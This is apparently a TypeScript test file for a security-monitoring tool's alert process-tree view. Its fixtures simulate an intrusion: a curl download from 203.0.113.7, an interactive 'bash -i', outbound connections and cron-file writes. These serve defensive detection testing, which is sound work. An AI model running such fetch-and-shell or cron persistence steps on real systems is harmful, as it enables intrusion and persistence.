import type { Alert, Event, ProcessEntity } from '@vedette/model'
import { describe, expect, test } from 'vitest'
import { processTree, type TreeNode } from './process-tree.ts'
import { storyOf } from './read-tree.ts'

const entity = (pid: number, name: string, cmd = name): ProcessEntity => ({
  uid: `boot-${pid}-${pid}` as ProcessEntity['uid'],
  pid,
  name,
  cmd_line: cmd,
  created_time: pid * 10,
})
const init = entity(1, 'systemd')
const sshd = entity(2, 'sshd')
const shell = entity(3, 'bash', '-bash')
const curl = entity(4, 'curl', 'curl http://203.0.113.7/x')
const bash = entity(5, 'bash', 'bash -i')
const sibling = entity(6, 'ls', 'ls -l')
const child = entity(7, 'id', 'id')

let number = 0
const base = (time: number) => ({
  id: `agent-run-${(number += 1)}` as Event['id'],
  time,
  device: { uid: 'agent', hostname: 'web-1' } as Event['device'],
  severity_id: 1 as const,
  metadata: { version: '1.8.0' as const, log_provider: 'ebpf', logged_time: time },
})
const launch = (process: ProcessEntity, parent: ProcessEntity): Event => ({
  ...base(process.pid * 10),
  kind: 'process',
  class_uid: 1007,
  activity: 'launch',
  process: { ...process, parent_process: parent },
})
const end = (process: ProcessEntity, time: number): Event => ({
  ...base(time),
  kind: 'process',
  class_uid: 1007,
  activity: 'terminate',
  process,
})
const connect = (process: ProcessEntity, time: number, activity: 'open' | 'close' = 'open'): Event => ({
  ...base(time),
  kind: 'network',
  class_uid: 4001,
  activity,
  protocol: 'tcp',
  direction: 'outbound',
  dst_endpoint: { ip: '203.0.113.7', port: 443 },
  process,
})
const write = (process: ProcessEntity, time: number, path: string): Event => ({
  ...base(time),
  kind: 'file',
  class_uid: 1001,
  activity: 'update',
  file: { path, name: path.split('/').at(-1) ?? '' },
  process,
})

function alertOn(
  process: ProcessEntity,
  ancestry: ProcessEntity[],
  events: Event[],
  matches: Alert['matches'] = [],
) {
  return {
    id: 'alert-1',
    time: process.pid * 10,
    lastSeen: process.pid * 10,
    process: { ...process, ancestry },
    events,
    matches,
  } as unknown as Alert
}

const drawn = (nodes: readonly TreeNode[]) =>
  nodes.map(
    ({ kind, depth, process, text, isSubject, ended }) =>
      `${'  '.repeat(depth)}${kind === 'process' ? process.cmd_line : text}${isSubject ? ' <' : ''}${ended ? ' ended' : ''}`,
  )

describe('processTree()', () => {
  const launched = launch(bash, shell)
  const alert = alertOn(bash, [shell, sshd, init], [launched])

  test('hangs ancestors, the subject, what it started and what each did, downwards in time', () => {
    const events = [
      connect(bash, 55),
      launch(curl, shell),
      launch(sibling, shell),
      launch(child, bash),
      end(child, 90),
      write(curl, 41, '/tmp/x'),
      connect(curl, 40.5),
      connect(curl, 42, 'close'),
    ]
    expect(drawn(processTree(alert, events))).toEqual([
      'systemd',
      '  sshd',
      '    -bash',
      '      curl http://203.0.113.7/x',
      '        connects to 203.0.113.7:443',
      '        writes /tmp/x',
      '      bash -i <',
      '        connects to 203.0.113.7:443',
      '        id ended',
      '      ls -l',
    ])
  })

  test('says one thing once, but never leaves out what matched', () => {
    const again = write(bash, 60, '/etc/cron.d/x')
    const events = [write(bash, 56, '/etc/cron.d/x'), write(bash, 57, '/etc/cron.d/x'), again]
    const matching = alertOn(
      bash,
      [shell],
      [launched],
      [{ event: again.id, field: 'file.path', value: '/etc/cron.d/x' }],
    )
    const nodes = processTree(matching, events).filter(({ kind }) => kind === 'file')
    expect(nodes.map(({ time, marks }) => [time, marks])).toEqual([
      [56, []],
      [60, [{ start: 7, length: 13 }]],
    ])
  })

  test('marks what matched in the command line, at its own place', () => {
    const marked = alertOn(
      bash,
      [shell],
      [launched],
      [
        { event: launched.id, field: 'process.cmd_line', value: 'bash -i', start: 5, length: 2 },
        { event: launched.id, field: 'process.cmd_line', value: 'bash -i', start: 5, length: 2 },
        { event: launched.id, field: 'process.working_directory', value: '/root' },
        { event: launched.id, field: 'process.name', value: 'bash' },
      ],
    )
    expect(processTree(marked, []).find(({ isSubject }) => isSubject)?.marks).toEqual([
      { start: 0, length: 4 },
      { start: 5, length: 2 },
    ])
  })

  test('keeps the ancestors, the subject and what it did when there is too much', () => {
    const crowd = Array.from({ length: 2000 }, (_, i) => launch(entity(1000 + i, 'true'), shell))
    const nodes = processTree(alert, [...crowd, launch(child, bash), connect(bash, 51)], new Map(), 50)
    expect(nodes).toHaveLength(50)
    expect(drawn(nodes).slice(0, 6)).toEqual([
      'systemd',
      '  sshd',
      '    -bash',
      '      bash -i <',
      '        connects to 203.0.113.7:443',
      '        id',
    ])
  })

  test('holds against parents that go round in a circle', () => {
    const nodes = processTree(alert, [launch(shell, bash), launch(init, child), launch(bash, bash)])
    expect(nodes.map(({ process }) => process.pid).sort((a, b) => a - b)).toEqual([1, 2, 3, 5, 7])
  })

  test('names other alerts at their processes, and is empty without a process', () => {
    const nodes = processTree(alert, [launch(curl, shell)], new Map([[curl.uid, 'alert-2' as Alert['id']]]))
    expect(nodes.find(({ process }) => process.pid === 4)?.alert).toBe('alert-2')
    expect(processTree({ ...alert, process: undefined }, [])).toEqual([])
  })
})

test('a story begins below what hosts many', () => {
  expect(storyOf(alertOn(bash, [shell, sshd, init], []))).toEqual([bash.uid, shell.uid])
  expect(storyOf(alertOn(bash, [shell], []))).toEqual([bash.uid, shell.uid])
})
